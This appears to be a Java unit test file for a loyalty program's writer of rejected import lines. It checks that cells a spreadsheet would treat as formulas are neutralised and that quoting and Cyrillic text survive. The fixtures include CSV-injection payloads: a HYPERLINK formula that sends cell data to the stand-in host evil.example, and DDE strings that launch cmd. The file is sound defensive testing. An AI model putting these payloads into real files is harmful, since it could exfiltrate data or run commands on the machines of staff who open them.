package org.clientclub.loyalty.internal.imports;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

/** What a till export edited by an attacker puts into the file of rejected lines that staff open in a spreadsheet. */
class RejectedLinesCsvTest {

    @Test
    void quotesEveryFieldAndKeepsTheRawLineInOneCell() {
        String csv = csv(new Rejected(4, "cardCheckDigit", "1234;2026-11-20T10:00;101000;=HYPERLINK(\"http://x\")"));

        assertThat(csv)
                .isEqualTo("\"line\";\"reason\";\"content\"\r\n"
                        + "\"4\";\"cardCheckDigit\";\"1234;2026-11-20T10:00;101000;=HYPERLINK(\"\"http://x\"\")\"\r\n");
    }

    @Test
    void neutralisesEveryCellThatASpreadsheetWouldRunAsAFormula() throws IOException {
        List<Rejected> hostile = List.of(
                new Rejected(2, "fields", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Подробнее\")"),
                new Rejected(3, "fields", "+cmd|' /C calc'!A0"),
                new Rejected(4, "amount", "-2+3"),
                new Rejected(5, "fields", "@SUM(1+1)*cmd|' /C calc'!A0"),
                new Rejected(6, "fields", "\t=1+1"),
                new Rejected(7, "fields", "\r=1+1"),
                new Rejected(8, "=reason", "ok"));

        List<CSVRecord> records = parse(csv(hostile.toArray(Rejected[]::new)));

        assertThat(records)
                .extracting(r -> r.get(2))
                .containsExactly(
                        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Подробнее\")",
                        "'+cmd|' /C calc'!A0",
                        "'-2+3",
                        "'@SUM(1+1)*cmd|' /C calc'!A0",
                        "'\t=1+1",
                        "'\r=1+1",
                        "ok");
        assertThat(records).extracting(r -> r.get(1)).endsWith("'=reason");
        assertThat(records).extracting(r -> r.get(0)).containsExactly("2", "3", "4", "5", "6", "7", "8");
    }

    @Test
    void keepsQuotesNewlinesSeparatorsAndCyrillicOfTheLineAsTheyCame() throws IOException {
        String line = "0000123;2026-11-20 10:00;\"почта\";100,50;\"ящик\\полка\"\tдва;поля\nвторая строка";
        String quoted = "a\"b\";\"c";

        List<CSVRecord> records = parse(csv(new Rejected(12, "fields", line), new Rejected(13, "fields", quoted)));

        assertThat(records).hasSize(2);
        assertThat(records.get(0).size()).isEqualTo(3);
        assertThat(records.get(0).get(2)).isEqualTo(line);
        assertThat(records.get(1).get(2)).isEqualTo(quoted);
    }

    @Test
    void leavesAnOrdinaryLineAsItWas() {
        assertThat(RejectedLinesCsv.neutralised("0000123;2026-11-20;101000;150.00"))
                .isEqualTo("0000123;2026-11-20;101000;150.00");
        assertThat(RejectedLinesCsv.neutralised("")).isEmpty();
    }

    private record Rejected(long lineNo, String reason, String rawLine) {}

    private static String csv(Rejected... lines) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        RejectedLinesCsv csv = new RejectedLinesCsv(out);
        for (Rejected line : lines) {
            csv.write(line.lineNo(), line.reason(), line.rawLine());
        }
        csv.flush();
        return out.toString(StandardCharsets.UTF_8);
    }

    private static List<CSVRecord> parse(String csv) throws IOException {
        return CSVFormat.DEFAULT
                .builder()
                .setDelimiter(';')
                .setHeader()
                .setSkipHeaderRecord(true)
                .get()
                .parse(new StringReader(csv))
                .getRecords();
    }
}
